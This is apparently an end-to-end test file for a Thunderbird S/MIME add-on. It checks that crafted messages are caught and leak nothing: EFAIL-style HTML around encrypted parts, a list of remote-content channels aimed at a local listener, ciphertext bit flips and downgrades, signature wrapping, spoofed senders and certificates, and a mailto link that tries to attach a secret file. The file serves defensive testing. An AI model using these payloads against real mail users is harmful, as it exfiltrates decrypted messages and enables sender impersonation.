// Messages made to deceive or to make decrypted text leave the machine: EFAIL and its kin, signatures that
// do not cover what is shown, and senders who are not who they seem. Nothing is asked of the network
// (a listener counts), nothing decrypted stands beside what somebody else wrote, no good icon appears.

import assert from "node:assert/strict";
import { X509Certificate } from "node:crypto";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import path from "node:path";
import { asEnvelopedCbc } from "../support/cms_downgrade.mjs";
import { withAttributesAsContent, withFlippedBit, withoutSigners } from "../support/cms_tampering.mjs";
import { Workshop, attachment, multipart, text } from "../support/encrypting.mjs";
import { journeys } from "../support/journey.mjs";
import { startSession } from "../support/session.mjs";
import { waitUntil } from "../support/processes.mjs";
import { builtXpi } from "../support/signet.mjs";

const folder = mkdtempSync(path.join(tmpdir(), "signet-attacks-"));
process.once("exit", () => rmSync(folder, { recursive: true, force: true }));

/** @type {string[]} What was asked of the listener. */
const asked = [];
const listener = createServer((request, response) => {
  asked.push(request.url ?? "");
  response.end();
});
await new Promise((resolve) => {
  listener.listen(0, "127.0.0.1", () => resolve(undefined));
});
listener.unref();
const { port } = /** @type {import("node:net").AddressInfo} */ (listener.address());
const AWAY = `http://127.0.0.1:${port}`;

const BOB = { name: "Bob Lindqvist", address: "bob@harbour-clinic.example", user: "bob" };
const ALICE = { name: "Alice Moreau", address: "alice@harbour-clinic.example" };

const workshop = new Workshop(folder);
const bob = workshop.person(BOB.name, BOB.address);
const alice = workshop.person(ALICE.name, ALICE.address);
const mallory = new Workshop(path.join(folder, "mallory")).person(ALICE.name, ALICE.address);

// Somebody else to whom the same authority gave a certificate with Alice's address.
const double = workshop.person(ALICE.name, ALICE.address);

const SECRET = "the safe opens with 4711";
const encrypted = workshop.encrypt(text(SECRET), [bob]);
const signed = workshop.sign(text("Pay nothing."), alice);
const authenticated = workshop.encrypt(text(SECRET.repeat(2000)), [bob], ["-aes-256-gcm"]);
const opaque = workshop.sign(text("Pay nothing."), alice, ["-nodetach"]);

/** @param {string} entity @param {string} title A part of a message, at a place of its own. */
const attached = (entity, title) =>
  `Content-Type: message/rfc822\r\n\r\nFrom: ${ALICE.name} <${ALICE.address}>\r\n` +
  `Subject: ${title}\r\n${entity}`;

/**
 * @typedef {object} Attack
 * @property {string} subject
 * @property {string} entity
 * @property {string} [signature] The icon.
 * @property {string} [encryption] The icon.
 * @property {RegExp} [words] In the message's text.
 * @property {string} [from] In place of Alice's field.
 * @property {Date} [date]
 * @property {string} [title] What the header shows in place of the subject.
 * @property {RegExp} [refused] What the host's console says about it.
 */

const channels = [
  `<img src="${AWAY}/img">`,
  `<link rel="stylesheet" href="${AWAY}/css">`,
  `<style>@import url("${AWAY}/import"); p { background: url("${AWAY}/background"); }</style>`,
  `<meta http-equiv="refresh" content="0; url=${AWAY}/refresh">`,
  `<iframe src="${AWAY}/frame"></iframe>`,
  `<object data="${AWAY}/object"></object>`,
  `<video src="${AWAY}/video" poster="${AWAY}/poster"></video>`,
  `<form action="${AWAY}/form"><input name="text" value="${SECRET}"></form>`,
  `<script src="${AWAY}/script"></script>`,
  `<link rel="dns-prefetch" href="${AWAY}"><link rel="prefetch" href="${AWAY}/prefetch">`,
  `<svg><image href="${AWAY}/svg"/></svg>`,
].join("\r\n");

/** @type {Attack[]} */
const ATTACKS = [
  {
    subject: "1 HTML around the encrypted part",
    entity: multipart("mixed", text(`<img src="${AWAY}/`, "html"), encrypted, text(`">`, "html")),
    words: /encrypted by itself/,
  },
  {
    subject: "2 every channel to the network, encrypted so that others can change it",
    entity: workshop.encrypt(text(`<p>${SECRET}</p>${channels}`, "html"), [bob]),
    encryption: "key",
    words: new RegExp(SECRET),
  },
  {
    subject: "3 authenticated encryption passed off as another",
    entity: asEnvelopedCbc(workshop.encrypt(text(SECRET.repeat(20)), [bob], ["-aes-256-gcm"])),
    encryption: "broken-key",
    words: /damaged or changed/,
  },
  {
    subject: "4a a bit of the check value flipped",
    entity: withFlippedBit(authenticated, 1),
    encryption: "broken-key",
    words: /damaged or changed/,
  },
  {
    subject: "4b a bit of the last block flipped",
    entity: withFlippedBit(authenticated, 40),
    encryption: "broken-key",
    words: /damaged or changed/,
  },
  {
    subject: "4c a bit far from the end flipped",
    entity: withFlippedBit(authenticated, 30_000),
    encryption: "broken-key",
    words: /damaged or changed/,
  },
  {
    subject: "5a the encrypted part beside others",
    entity: multipart("mixed", text("What do you think?"), encrypted),
    words: /encrypted by itself/,
  },
  {
    subject: "5b the encrypted part related to a page",
    entity: multipart("related", text("<p>Hello</p>", "html"), encrypted),
  },
  {
    subject: "5c the encrypted part as an alternative",
    entity: multipart("alternative", text("Hello"), encrypted),
  },
  {
    subject: "5d the encrypted part in an attached message",
    entity: multipart("mixed", text("See below."), attached(encrypted, "Old mail")),
    words: /encrypted by itself/,
  },
  {
    subject: "7 a signature that brings a content of its own",
    entity: signed.replace(
      /(Content-Type: application\/x?-?pkcs7-signature[^]*?\r\n\r\n)[^]*?(\r\n\r\n)/,
      (_all, before, after) => {
        const own = workshop.sign(text("Pay at once."), alice, ["-nodetach"]);
        return before + own.slice(own.indexOf("\r\n\r\n") + 4).trimEnd() + after;
      },
    ),
    signature: "broken-pen",
  },
  {
    subject: "8 a second signer whom nobody knows",
    entity: workshop.sign(text("Both of us."), alice, ["-signer", mallory.certificate, "-inkey", mallory.key]),
    signature: "broken-pen",
  },
  {
    subject: "9a a signature by nobody",
    entity: withoutSigners(opaque),
  },
  {
    subject: "9b a signature by nobody, beside the text",
    entity: signed.replace(
      /(Content-Type: application\/x?-?pkcs7-signature[^]*?\r\n\r\n)[^]*?(\r\n\r\n)/,
      (_all, before, after) => {
        const own = withoutSigners(opaque);
        return before + own.slice(own.indexOf("\r\n\r\n") + 4).trimEnd() + after;
      },
    ),
  },
  {
    subject: "10 a certificate that Mallory made, with the right address",
    entity: workshop.sign(text("It is me."), mallory),
    signature: "broken-pen",
  },
  {
    subject: "11a text before the signed part",
    entity: multipart("mixed", text("Pay at once."), signed),
  },
  {
    subject: "11b the signed part as an attachment",
    entity: multipart("mixed", text("Pay at once."), attached(signed, "Old mail")),
  },
  {
    subject: "11c the signed part hidden by style",
    entity: multipart(
      "related",
      text('<p>Pay at once.</p><div style="display:none"><object data="cid:signed"></object></div>', "html"),
      signed,
    ),
  },
  {
    subject: "11d the opaquely signed part beside others",
    entity: multipart("mixed", text("Pay at once."), workshop.sign(text("Inside."), alice, ["-nodetach"])),
    words: /signed by itself[^]*Inside\./,
  },
  {
    subject: "12a somebody else signs, with the address as a name",
    entity: workshop.sign(text("It is me."), alice),
    from: `"alice@harbour-clinic.example" <mallory@elsewhere.example>`,
    signature: "broken-pen",
  },
  {
    subject: "12b two senders",
    entity: workshop.sign(text("It is us."), alice),
    from: `${ALICE.name} <${ALICE.address}>, Mallory <mallory@elsewhere.example>`,
    signature: "broken-pen",
  },
  {
    subject: "12c two From fields",
    entity: workshop.sign(text("It is us."), alice),
    from: `${ALICE.name} <${ALICE.address}>\r\nFrom: Mallory <mallory@elsewhere.example>`,
    signature: "broken-pen",
  },
  {
    subject: "13 a page that draws the icon itself",
    entity: multipart(
      "mixed",
      text(
        `<p>Valid signature</p><img src="chrome://signet/content/skin/pen.svg"><img src="resource://signet/pen.svg">`,
        "html",
      ),
      attachment("plan.txt", Buffer.from("nothing")),
    ),
    refused: /may not load or link to chrome:/,
  },
  {
    subject: "14 signed attributes passed off as a content",
    entity: withAttributesAsContent(opaque),
    signature: "broken-pen",
  },
  {
    subject: "15a the subject changed outside of the protection",
    entity: workshop.sign(
      `Content-Type: text/plain; charset=utf-8; hp="clear"\r\nFrom: ${ALICE.name} <${ALICE.address}>\r\n` +
        "Subject: Lunch\r\n\r\nAt noon.\r\n",
      alice,
    ),
    signature: "pen",
    title: "Lunch",
  },
  {
    subject: "15b an old message sent again",
    entity: workshop.sign(text("Meet me now."), alice),
    date: new Date(Date.now() + 3 * 24 * 60 * 60 * 1000),
    signature: "broken-pen",
  },
];

/** @param {Attack} attack */
function messageOf({ subject, entity, from, date }) {
  let message = workshop.message(subject, ALICE, BOB, entity).toString("latin1");
  if (from) {
    message = message.replace(/^From: .*$/m, () => `From: ${from}`);
  }
  if (date) {
    message = message.replace(/^Date: .*$/m, `Date: ${date.toUTCString().replace("GMT", "+0000")}`);
  }
  return Buffer.from(message, "latin1");
}

/** Two messages with the same sender's address and certificates of two people. */
const REPLACEMENTS = [
  workshop.message("6a from Alice", ALICE, BOB, workshop.sign(text("Hello."), alice)),
  workshop.message("6b from Alice’s double", ALICE, BOB, workshop.sign(text("Hello again."), double)),
];

const start = async () => {
  const session = await startSession({
    xpi: builtXpi(),
    person: BOB,
    messages: [...ATTACKS.map(messageOf), ...REPLACEMENTS],
    anchors: [workshop.authority.certificate],
    key: workshop.keyFile(bob),
    // Even where a person has allowed all pictures.
    preferences: { "mailnews.message_display.disable_remote_image": false },
  });
  await session.mail.openInbox(ATTACKS.length + REPLACEMENTS.length);
  return session;
};

/** Certificates stored for Alice's address. @param {import("../support/session.mjs").Session} session */
const storedForAlice = ({ thunderbird }) =>
  thunderbird.run((address) => {
    const database = Cc["@mozilla.org/security/x509certdb;1"].getService(Ci.nsIX509CertDB);
    return database
      .getCerts()
      .filter((/** @type {any} */ each) => each.containsEmailAddress(address))
      .map((/** @type {any} */ each) => each.serialNumber);
  }, ALICE.address);

/** @param {string} file A certificate. */
const serialOf = (file) => new X509Certificate(readFileSync(file)).serialNumber.match(/../g)?.join(":");

journeys("message-security-attacks", start, (journey) => {
  for (const attack of ATTACKS) {
    const { subject, signature = "none", encryption = "none", words, title, refused } = attack;
    journey(subject, async (session) => {
      const { mail, signet } = session;
      await mail.selectAtOnce(subject);
      const header = await signet.judged(subject);
      const body = await mail.bodyText();
      assert.equal(header.signature, signature);
      assert.equal(header.encryption, encryption);
      assert.equal(header.hostIcons, false);
      if (encryption !== "key") {
        assert.doesNotMatch(body, new RegExp(SECRET));
      }
      if (words) {
        assert.match(body, words);
      }
      assert.equal(asked.join(" "), "");
      if (title) {
        const shown = await signet.openMessageSecurity();
        await signet.closeMessageSecurity();
        assert.equal(shown.subject, title);
        assert.match(shown.sentences.join(" "), /Subject was changed outside of the protection/);
      }
      // Nothing of what was decrypted gets into an answer that could carry it away.
      const answer = await session.compose.answer("cmd_reply");
      await session.compose.discard();
      assert.doesNotMatch(answer.text, new RegExp(SECRET));
      assert.equal(asked.join(" "), "");
    }, refused);
  }

  journey("6 a link cannot attach a file, nor have a captured message opened", async (session) => {
    const { compose, thunderbird } = session;
    const secret = path.join(folder, "secret.txt");
    writeFileSync(secret, SECRET);
    const parameters = new URLSearchParams({ subject: "Hello", body: encrypted });
    for (const name of ["attach", "attachment", "attach-file"]) {
      parameters.set(name, secret);
    }
    const link = `mailto:mallory@elsewhere.example?${parameters}`.replaceAll("+", "%20");
    await thunderbird.run((address) => {
      const { MailServices } = ChromeUtils.importESModule("resource:///modules/MailServices.sys.mjs");
      MailServices.compose.OpenComposeWindowWithURI(null, Services.io.newURI(address));
    }, link);
    const written = await compose.written();
    await compose.discard();
    assert.match(written.text, /pkcs7-mime/);
    assert.doesNotMatch(written.text, new RegExp(SECRET));
    assert.deepEqual(written.attachments, []);
  });

  journey("6 another certificate for somebody’s address is told of, and takes nothing away", async (session) => {
    const { mail, signet, thunderbird } = session;
    await mail.select("6a from Alice");
    assert.equal((await signet.judged("6a from Alice")).signature, "pen");
    await waitUntil("the first certificate", async () => (await storedForAlice(session)).length > 0);
    await mail.select("6b from Alice’s double");
    assert.equal((await signet.judged("6b from Alice’s double")).signature, "pen");
    await thunderbird.waitFor("the notice", () => {
      const { gMessageNotificationBar } = document.getElementById("tabmail").currentAboutMessage;
      return !!gMessageNotificationBar.msgNotificationBar.getNotificationWithValue("signet-collected");
    });
    const shown = await signet.openMessageSecurity();
    assert.match(shown.facts["Seen before"], /not with this certificate/);
    await session.screenshot("message-security-other-certificate", "signet:message-security");
    await signet.closeMessageSecurity();
    const stored = await storedForAlice(session);
    assert.ok(stored.includes(serialOf(alice.certificate)), stored.join(" "));
    assert.ok(!stored.includes(serialOf(mallory.certificate)), stored.join(" "));
  });

  journey("the person sees a bar and decides", async (session) => {
    const { mail, signet, thunderbird } = session;
    const [, { subject }] = ATTACKS;
    await mail.select(subject);
    await signet.judged(subject);
    await thunderbird.waitFor("the bar", () => {
      const { gMessageNotificationBar } = document.getElementById("tabmail").currentAboutMessage;
      const box = gMessageNotificationBar.msgNotificationBar;
      return !!box.getNotificationWithValue("signet-remote-content");
    });
    await session.screenshot("message-security-remote-content-bar");
    assert.equal(asked.join(" "), "");
    await thunderbird.run(() => {
      const { gMessageNotificationBar } = document.getElementById("tabmail").currentAboutMessage;
      const box = gMessageNotificationBar.msgNotificationBar;
      box.getNotificationWithValue("signet-remote-content").buttonContainer.firstElementChild.click();
    });
    await thunderbird.waitFor("the picture", () => {
      const message = document.getElementById("tabmail").currentAboutMessage;
      const page = message.getMessagePaneBrowser().contentDocument;
      return message.msgLoaded && page?.readyState === "complete" && !!page.images[0];
    });
    await waitUntil("its request", async () => asked.includes("/img"));
    // The next message decides anew.
    asked.splice(0);
    await mail.select(ATTACKS[0].subject);
    await mail.select(subject);
    await signet.judged(subject);
    await mail.bodyText();
    assert.equal(asked.join(" "), "");
  });
});
